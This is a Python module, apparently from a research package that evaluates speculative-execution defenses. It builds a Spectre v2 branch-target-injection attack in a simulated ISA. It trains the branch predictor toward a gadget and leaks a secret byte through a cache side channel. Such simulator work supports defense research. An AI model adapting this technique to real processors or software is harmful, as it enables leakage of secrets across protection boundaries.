"""Spectre v2 — branch target injection through the BTB.

The attacker first trains an indirect call site to dispatch to a *gadget*
(by installing the gadget in the function-pointer slot and invoking the
victim with a benign index).  It then restores a benign function pointer,
flushes the pointer's cache line so the indirect call resolves late, and
invokes the victim with a secret-selecting index: fetch follows the stale
BTB prediction into the gadget, which loads the secret and transmits it
through the d-cache before the squash.

Control-steering attack: blocked by every NDA policy and by InvisiSpec
(it uses the cache as its transmit channel).
"""

from __future__ import annotations

from typing import List, Optional

from repro.attacks.common import (
    CACHE_LEAK_MARGIN,
    PROBE_BASE,
    PROBE_STRIDE,
    SCRATCH_BASE,
    AttackOutcome,
    default_guesses,
    emit_cache_recover,
    emit_probe_flush,
    read_timings,
    run_attack,
    victim_map,
)
from repro.config import SimConfig
from repro.isa.assembler import Assembler
from repro.isa.program import Program
from repro.isa.registers import LR, R10, R11, R12, R13, R20, R21, R24

_MAP = victim_map("spectre_v2")
ARRAY_BASE = _MAP["array"]
FPTR_ADDR = _MAP["fptr"]
LR_SAVE = SCRATCH_BASE + 0x200
BENIGN_INDEX = 0
BENIGN_VALUE = 7
SECRET_INDEX = 0x2000
TRAIN_CALLS = 4


def build_program(
    secret: int = 42, guesses: Optional[List[int]] = None
) -> Program:
    guesses = guesses if guesses is not None else default_guesses(secret)
    asm = Assembler("spectre_v2")
    asm.data(ARRAY_BASE + BENIGN_INDEX, bytes([BENIGN_VALUE]))
    asm.data(ARRAY_BASE + SECRET_INDEX, bytes([secret]))

    asm.jmp("main")

    # The victim's indirect dispatch: r10 = index argument.
    asm.label("dispatcher")
    asm.li(R24, LR_SAVE)
    asm.store(LR, R24, 0)
    asm.li(R20, FPTR_ADDR)
    asm.load(R20, R20, 0)
    asm.callr(R20)  # steered via the BTB while the pointer load is in flight
    asm.li(R24, LR_SAVE)
    asm.load(LR, R24, 0)
    asm.ret()

    # The gadget the attacker wants to run speculatively: it dereferences
    # array[r10] and touches a probe line derived from the value.
    asm.label("gadget")
    asm.add(R21, R11, R10)
    asm.loadb(R21, R21, 0)  # access
    asm.mul(R21, R21, R13)
    asm.add(R21, R21, R12)
    asm.load(R21, R21, 0)  # transmit
    asm.ret()

    asm.label("benign")
    asm.ret()

    asm.label("main")
    asm.li(R11, ARRAY_BASE)
    asm.li(R12, PROBE_BASE)
    asm.li(R13, PROBE_STRIDE)
    # Warm the secret's line (the victim touched it on its own earlier).
    asm.li(R20, ARRAY_BASE + SECRET_INDEX)
    asm.loadb(R21, R20, 0)
    # Poison phase: point the function pointer at the gadget and train the
    # BTB with benign invocations.
    asm.li(R20, 0)  # patched below to the gadget's PC
    asm.label("after_gadget_li")
    asm.li(R21, FPTR_ADDR)
    asm.store(R20, R21, 0)
    asm.fence()
    for _ in range(TRAIN_CALLS):
        asm.li(R10, BENIGN_INDEX)
        asm.call("dispatcher")
    # Restore the benign pointer, flush it so the attack call's dispatch
    # resolves late, and clear the probe lines.
    asm.li(R20, 0)  # patched below to benign's PC
    asm.label("after_benign_li")
    asm.li(R21, FPTR_ADDR)
    asm.store(R20, R21, 0)
    asm.fence()
    emit_probe_flush(asm, guesses)
    asm.li(R21, FPTR_ADDR)
    asm.clflush(R21, 0)
    asm.fence()
    # Attack call: architecturally runs `benign`, speculatively the gadget.
    asm.li(R10, SECRET_INDEX)
    asm.call("dispatcher")
    asm.fence()
    emit_cache_recover(asm, guesses)
    asm.halt()

    program = asm.build()
    _patch_pc_immediates(program, asm)
    return program


def _patch_pc_immediates(program: Program, asm: Assembler) -> None:
    """Fill in the li immediates that hold function PCs.

    The assembler resolves labels for branch targets only; two ``li``
    instructions need *code addresses* as data, which are only known after
    layout, so they are patched post-build.
    """
    labels = asm._labels
    gadget_pc = labels["gadget"]
    benign_pc = labels["benign"]
    for marker, value in (
        ("after_gadget_li", gadget_pc),
        ("after_benign_li", benign_pc),
    ):
        li_instr = program.instrs[labels[marker] - 1]
        li_instr.imm = value


def run(
    config: SimConfig,
    secret: int = 42,
    guesses: Optional[List[int]] = None,
    in_order: bool = False,
    fast_forward: bool = True,
) -> AttackOutcome:
    """Run the branch-target-injection attack on *config*."""
    guesses = guesses if guesses is not None else default_guesses(secret)
    program = build_program(secret, guesses)
    outcome = run_attack(
        program, config, in_order=in_order, fast_forward=fast_forward
    )
    return AttackOutcome(
        attack="spectre_v2",
        channel="cache",
        config_label=outcome.label,
        secret=secret,
        timings=read_timings(outcome, guesses),
        guesses=guesses,
        margin_required=CACHE_LEAK_MARGIN,
        outcome=outcome,
    )
